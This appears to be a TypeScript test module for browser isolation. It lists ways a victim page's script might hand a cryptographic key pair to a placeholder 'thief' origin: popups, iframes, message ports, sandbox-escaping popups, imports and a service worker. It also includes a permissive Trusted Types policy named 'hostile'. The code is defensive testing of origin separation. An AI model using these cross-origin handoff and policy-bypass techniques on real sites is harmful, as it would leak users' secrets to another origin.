/** Script in the victim's page that wants to hand the key to another origin: one function a way. */

import type { Notes } from './notes.ts';

export interface Scene {
  readonly pair: CryptoKeyPair;
  readonly notes: Notes;
  /** An origin of another site, and one of the same site on another port. */
  readonly thief: string;
  readonly neighbour: string;
}

export const attacks = {
  popup: async (scene: Scene) => {
    const opened = popup(scene.thief);
    await give(scene, opened);
    await severed(scene, opened);
  },

  'renamed-popup': async (scene: Scene) => {
    const opened = popup('');
    opened.location.href = scene.thief;
    await give(scene, opened);
    await severed(scene, opened);
  },

  'blob-popup': async (scene: Scene) => {
    const html = new Blob([`<iframe src="${scene.thief}"></iframe>`], { type: 'text/html' });
    const opened = popup(URL.createObjectURL(html));
    await give(scene, () => opened.frames[0]);
  },

  'bare-popup': async (scene: Scene) => {
    const opened = popup('/bare');
    // A window of another group looks closed, and before that, foreign.
    await until(() => opened.closed || documentOf(opened)?.querySelector('button'));
    if (opened.closed) return scene.notes.tell('severed');
    await give(scene, frame(scene.thief, opened.document));
  },

  port: async (scene: Scene) => {
    const opened = popup(scene.thief);
    const { port1, port2 } = new MessageChannel();
    await scene.notes.told('listening');
    opened.postMessage('port', '*', [port2]);
    port1.postMessage(scene.pair);
    await severed(scene, opened);
  },

  opener: async (scene: Scene) => (opener ? give(scene, opener as Window) : scene.notes.tell('severed')),

  parent: (scene: Scene) => give(scene, parent),

  frame: (scene: Scene) => give(scene, frame(scene.thief)),

  'port-frame': (scene: Scene) => give(scene, frame(scene.neighbour)),

  object: (scene: Scene) => {
    const element = document.createElement('object');
    element.type = 'text/html';
    element.data = trusted('createScriptURL', scene.thief);
    document.body.append(element);
    return give(scene, () => frames[0]);
  },

  'blank-frame': (scene: Scene) => give(scene, frame(scene.thief, frame().document)),

  'bare-frame': async (scene: Scene) => {
    const own = frame('/bare');
    await until(() => own.document.querySelector('button'));
    await give(scene, frame(scene.thief, own.document));
  },

  sandbox: (scene: Scene) => give(scene, sandboxed('allow-scripts', `<script src="${location.origin}/thief.js" data-home="${scene.thief}"></script>`).contentWindow!),

  // Put over the page before the user clicks.
  'sandbox-popup': async ({ pair, notes, thief }: Scene) => {
    const code = `<body><script src="${location.origin}/accomplice.js" data-thief="${thief}"></script>`;
    const element = sandboxed('allow-scripts allow-popups allow-popups-to-escape-sandbox', code);
    element.width = element.height = '600';
    addEventListener('message', ({ data }: MessageEvent<{ opened: boolean }>) => {
      if (data.opened) void notes.told('listening').then(() => element.contentWindow!.postMessage('go', '*'));
      else void notes.tell('severed');
    });
    await new Promise((resolve) => element.addEventListener('load', resolve));
    element.contentWindow!.postMessage(pair, '*');
  },

  'agreeing-frame': (scene: Scene) => give(scene, frame(`${scene.thief}/embeddable`)),

  'own-frame': async (scene: Scene) => {
    const own = frame('/?attack=frame');
    await until(() => own.document.querySelector('button'));
    await give(scene, frame(scene.thief, own.document));
  },

  import: ({ thief, notes }: Scene) => runModule(`${thief}/module.js`, notes),

  'own-import': ({ notes }: Scene) => runModule('/module.js', notes),

  'service-worker': async () => {
    await navigator.serviceWorker.register(trusted('createScriptURL', '/service-worker.js'));
    await navigator.serviceWorker.ready;
    location.href = '/made-up?attack=frame&at-once';
  },
} satisfies Record<string, (scene: Scene) => Promise<void>>;

export type Attack = keyof typeof attacks;

/** Posts the pair, once the thief's page has told that it listens. */
async function give({ pair, notes }: Scene, target: Window | (() => Window | null | undefined)): Promise<void> {
  await notes.told('listening');
  (typeof target === 'function' ? target() : target)?.postMessage(pair, '*');
}

/** Tells when a window that was opened has gone out of reach: it looks closed then. */
async function severed({ notes }: Scene, opened: Window): Promise<void> {
  await until(() => opened.closed);
  await notes.tell('severed');
}

/** Passes text by Trusted Types, where a policy of the script's own may be made. */
function trusted(create: 'createHTML' | 'createScriptURL', text: string): string {
  const { trustedTypes } = globalThis as { trustedTypes?: { createPolicy(name: string, rules: object): Record<string, (text: string) => string> } };
  return trustedTypes?.createPolicy('hostile', { [create]: (same: string) => same })[create]!(text) ?? text;
}

async function runModule(url: string, notes: Notes): Promise<void> {
  const module = (await import(url)) as { run(notes: Notes): Promise<void> };
  await module.run(notes);
}

function popup(url: string): Window {
  const opened = open(url);
  if (!opened) throw new Error('The browser opened no window');
  return opened;
}

/** A frame without an origin. */
function sandboxed(allowed: string, html: string): HTMLIFrameElement {
  const element = document.createElement('iframe');
  element.setAttribute('sandbox', allowed);
  element.srcdoc = trusted('createHTML', html);
  document.body.prepend(element);
  return element;
}

/** A frame in this document or another; without a URL it is about:blank. */
function frame(url?: string, inDocument = document): Window {
  const element = inDocument.createElement('iframe');
  if (url !== undefined) element.src = url;
  inDocument.body.append(element);
  return element.contentWindow!;
}

function documentOf(other: Window): Document | undefined {
  try {
    return other.document;
  } catch {
    return undefined;
  }
}

/** For what no event tells: the other window's document is replaced. */
async function until(good: () => unknown): Promise<void> {
  while (!good()) await new Promise((resolve) => setTimeout(resolve, 10));
}
